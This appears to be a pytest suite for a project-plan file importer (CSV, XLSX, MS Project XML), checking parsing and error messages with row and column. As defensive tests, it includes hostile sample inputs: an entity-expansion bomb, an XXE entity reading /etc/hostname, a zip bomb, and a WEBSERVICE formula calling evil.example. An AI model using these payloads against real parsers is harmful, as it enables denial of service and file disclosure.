"""A plan out of the file that people keep: what it may say, and what is refused with its row and column."""

from __future__ import annotations

import io
import zipfile
from datetime import date
from typing import TYPE_CHECKING, Any

import pytest
import xlsxwriter
from hypothesis import given
from hypothesis import strategies as st
from tests.kernel.scheduling.plans import MONDAY_US, OFFICE, calendar

from handfast.kernel.refusal import Refusal
from handfast.kernel.scheduling.plan import Duration, Link, Party
from handfast.kernel.scheduling.refusals import MspdiRefused, PlanHasCycle
from handfast.kernel.scheduling.schedule import schedule
from handfast.transition.reading import tables
from handfast.transition.reading.columns import LONGEST_LINK, day_of_text, length_of, links_of
from handfast.transition.reading.offered import Frame, read_offered
from handfast.transition.refusals import PlanFileRefused

if TYPE_CHECKING:
    from handfast.kernel.scheduling.plan import Plan

PARTIES = (
    Party("client", "Lumen", calendar(OFFICE)),
    Party("provider", "Danube Care", calendar(OFFICE)),
)
FRAME = Frame("provider", "UTC", MONDAY_US, PARTIES)
LOL = '<!DOCTYPE p [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
XXE = '<!DOCTYPE p [<!ENTITY a SYSTEM "file:///etc/hostname">]>'
PROJECT = '<Project xmlns="http://schemas.microsoft.com/project"><Title>&a;</Title></Project>'
SHEET = [
    ["ID", "Task Name", "Phase", "Duration", "Start", "Predecessors"],
    ["1", "Hire the team", "Hiring", "5 days", "2026-03-02", ""],
    ["2", "Train", "Knowledge transfer", "2 wks", "", "1FS+2 days"],
    ["3", "Ready", "Knowledge transfer", "0 days", "", "2"],
]


def text(*lines: str) -> bytes:
    return "\n".join(lines).encode()


def workbook(rows: list[list[Any]]) -> bytes:
    target = io.BytesIO()
    with xlsxwriter.Workbook(target) as book:
        sheet = book.add_worksheet("Plan")
        form = book.add_format({"num_format": "yyyy-mm-dd"})
        for number, row in enumerate(rows):
            for column, cell in enumerate(row):
                if isinstance(cell, date):
                    sheet.write_datetime(number, column, cell, form)
                else:
                    sheet.write(number, column, cell)
    return target.getvalue()


def plan_in(content: bytes, name: str = "theirs.csv") -> Plan:
    return read_offered(content, name, FRAME).plan


def refusal_of(content: bytes, name: str = "theirs.csv") -> str:
    with pytest.raises(PlanFileRefused) as refused:
        plan_in(content, name)
    return str(refused.value)


@pytest.mark.parametrize("content", [
    text(*(",".join(row) for row in SHEET)),
    text(*(";".join(row) for row in SHEET)),
    text(*("\t".join(row) for row in SHEET)),
    workbook(SHEET),
    b"\xef\xbb\xbf" + text(*(",".join(row) for row in SHEET)),
], ids=["commas", "semicolons", "tabs", "workbook", "byte order mark"])  # fmt: skip
def test_sheet_of_any_form_is_the_same_plan(content: bytes) -> None:
    plan = plan_in(content)
    hire, train, ready = plan.activities
    assert [step.name for step in plan.steps] == ["Hiring", "Knowledge transfer"]
    assert (hire.estimate.likely, train.estimate.likely) == (
        Duration(5_000_000, "d"),
        Duration(10_000_000, "d"),
    )
    assert train.after == (Link("1", "FS", Duration(2_000_000, "d")),)
    assert (ready.kind, ready.after, ready.lead) == ("milestone", (Link("2"),), "provider")
    assert hire.not_before_us == MONDAY_US


def test_row_without_a_duration_lasts_the_own_working_days_from_its_start_to_its_finish() -> None:
    plan = plan_in(text("Activity,Start,Finish", "Hire,2026-03-02,2026-03-10"))
    assert plan.activities[0].estimate.likely == Duration(7_000_000, "d")
    assert schedule(plan).dated[0].ends_us == MONDAY_US + (8 * 24 + 17) * 3_600_000_000


def test_what_stands_under_no_phase_is_mapped_as_one_of_its_own() -> None:
    plan = plan_in(text("Activity,Phase,Duration", "Hire,People,1d", "Train,,1d", "Test,,1d"))
    assert [(step.key, step.name) for step in plan.steps] == [("p1", "People"), ("loose", "Without a phase")]
    assert [one.step for one in plan.activities] == ["p1", "loose", "loose"]


def test_dates_of_a_workbook_are_days() -> None:
    plan = plan_in(workbook([["Activity", "Duration", "Start"], ["Hire", 3, date(2026, 3, 4)]]), "a.xlsx")
    assert plan.activities[0].not_before_us == MONDAY_US + 2 * 86_400_000_000
    assert plan.activities[0].estimate.likely == Duration(3_000_000, "d")


def test_three_points_deadline_and_fixed_day_are_read_as_the_export_writes_them() -> None:
    lines = text(
        "Key,Activity,Lead,At best,Likely,At worst,Fixed for,Deadline,Waits for,Kind",
        "a.1,Hire,joint,1d,2d,4d,2026-03-03,2026-03-20,,activity",
        "a.2,Ready,joint,,,,,,a.1 SS+1d elapsed,milestone",
    )
    hire, ready = plan_in(lines).activities
    assert (hire.estimate.low, hire.estimate.high) == (Duration(1_000_000, "d"), Duration(4_000_000, "d"))
    assert (hire.lead, hire.fixed_us, hire.deadline_us) == (
        "joint", MONDAY_US + 86_400_000_000, MONDAY_US + 19 * 86_400_000_000,
    )  # fmt: skip
    assert ready.after == (Link("a.1", "SS", Duration(1_000_000, "d"), "elapsed"),)


def test_every_fault_of_a_sheet_is_told_with_its_row_and_column() -> None:
    said = refusal_of(
        text(
            "ID,Activity,Duration,Start,Predecessors,Lead",
            "1,Hire,soon,,,",
            "1,,2d,,,",
            "3,Train,2d,04/05/2026,,",
            "4,Test,2d,,9FS,",
            "5,Go,2d,,,vendor",
            "6,Wait,,,,",
            "a b,Odd,1d,,,",
        )
    )
    for fault in (
        "row 2, Duration: write a duration",
        "row 3, ID: '1' stands in row 2 too",
        "row 3, Activity: is empty",
        "row 4, Start: '04/05/2026' is no day that can be read",
        "row 5, Predecessors: there is no '9' in the column of keys",
        "row 6, Lead: 'vendor': write one of",
        "row 7, Activity: has no duration",
        "row 8, ID: 'a b'",
    ):
        assert fault in said


@pytest.mark.parametrize(("content", "said"), [
    (b"", "the table is empty"),
    (b"\n\n", "the table is empty"),
    (b"Activity,Duration\n", "there is no activity in it"),
    (b"Name of it,Duration\nHire,2d\n", "no column names the activities"),
    (b"\xd0\xcf\x11\xe0old", "an old .xls or .mpp"),
    (b"%PDF-1.7", "a PDF"),
    (b"\x1f\x8b\x08packed", "packed"),
    (b"Activity\nB\xfcro,1d\n", "line 2: not UTF-8"),
    (b"Activity\x00,Duration\n", "this is no text"),
    (b"Activity,Duration\n" + b"x" * 5000 + b",1d\n", "row 2: a cell is longer"),
    (b"Activity,Duration\n" + b"x,1d\n" * 2001, "2,001 rows"),
    (b",".join([b"Activity"] * 101) + b"\nx\n", "101 columns"),
    (b"Activity,Finish,Start\nHire,2026-03-01,2026-03-05\n", "row 2, Finish: lies before its start"),
    (b"Activity,At best,Likely,At worst\nHire,3d,2d,9d\n", "row 2, Likely: write low, likely and high"),
])  # fmt: skip
def test_file_that_is_no_plan_is_refused_in_words(content: bytes, said: str) -> None:
    assert said in refusal_of(content)


def test_file_beyond_its_limit_is_not_read(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tables, "MOST_BYTES", 10)
    with pytest.raises(PlanFileRefused, match="at most 10"):
        tables.read_table(b"Activity,Duration\n", "big.csv")


@pytest.mark.parametrize("dtd", [LOL, XXE])
def test_project_file_with_entities_is_refused_unread(dtd: str) -> None:
    with pytest.raises(MspdiRefused, match="document type or an entity"):
        plan_in(f"{dtd}{PROJECT}".encode(), "bomb.xml")


def test_workbook_that_bursts_or_is_none_is_refused() -> None:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("xl/workbook.xml", "<workbook/>")
        packed.writestr("xl/worksheets/sheet1.xml", b"0" * (20 * 2**20))
    for content in (target.getvalue(), b"PK\x03\x04 no zip at all"):
        with pytest.raises(Refusal) as refused:
            plan_in(content, "bomb.xlsx")
        assert "bomb.xlsx" in str(refused.value)


def test_formula_is_never_run_and_its_last_value_is_read() -> None:
    target = io.BytesIO()
    with xlsxwriter.Workbook(target) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, ["Activity", "Duration"])
        sheet.write_formula(1, 0, '=WEBSERVICE("http://evil.example")', value="Hire")
        sheet.write(1, 1, "2d")
    assert plan_in(target.getvalue(), "a.xlsx").activities[0].name == "Hire"


def test_plan_that_goes_round_in_a_ring_is_refused_by_its_keys() -> None:
    with pytest.raises(PlanHasCycle, match=r"waits for itself: . waits for ."):
        plan_in(text("ID,Activity,Duration,Predecessors", "1,A,1d,2", "2,B,1d,1"))


@pytest.mark.parametrize(("said", "meant"), [
    ("5", (5_000_000, "d")), ("5 days?", (5_000_000, "d")), ("0,5d", (500_000, "d")), ("2 wks", (10_000_000, "d")),
    ("16 hrs", (57_600_000_000, "h")), ("1h 30m", (5_400_000_000, "h")),
])  # fmt: skip
def test_lengths_are_read_as_sheets_write_them(said: str, meant: tuple[int, str]) -> None:
    found = length_of(said)
    assert (found.amount, found.unit) == meant


@pytest.mark.parametrize(
    "said", ["2026-05-04", "2026-05-04T08:00:00", "04.05.2026", "4 May 2026", "Mon 04 May 2026"]
)
def test_days_are_read_where_they_can_mean_one_day_only(said: str) -> None:
    assert day_of_text(said) == date(2026, 5, 4)


@pytest.mark.parametrize("said", ["9999-12-31", "0001-01-01", "1 May 1999"])
def test_day_of_no_plan_is_refused_with_its_row(said: str) -> None:
    with pytest.raises(PlanFileRefused, match=r"row 2, Start: .*: write a day from 2000 to 2099"):
        plan_in(text("Activity,Start,Finish", f"A,{said},{said}"))


def test_link_that_is_too_long_to_be_one_is_no_link_and_not_tried_at_every_place() -> None:
    with pytest.raises(ValueError, match="is no link"):
        links_of("+1" * LONGEST_LINK, {"3"})
    assert links_of(f"{'k' * 190} FS+1d", {"k" * 190}) == (Link("k" * 190, "FS", Duration(1_000_000, "d")),)


def test_link_may_name_a_key_that_looks_like_a_link() -> None:
    assert links_of("3SS", {"3SS", "3"}) == (Link("3SS"),)
    assert links_of("3SS; 3 FF-1d", {"3"}) == (Link("3", "SS"), Link("3", "FF", Duration(-1_000_000, "d")))


@given(st.binary(max_size=400) | st.text(max_size=200).map(str.encode))
def test_whatever_is_sent_is_read_or_refused_in_words(content: bytes) -> None:
    for start in (b"", b"Activity,Duration,Predecessors,Start\n", b"PK\x03\x04", b"<"):
        try:
            told = plan_in(start + content).activities[0].name
        except Refusal as refused:
            told = str(refused)
        assert told
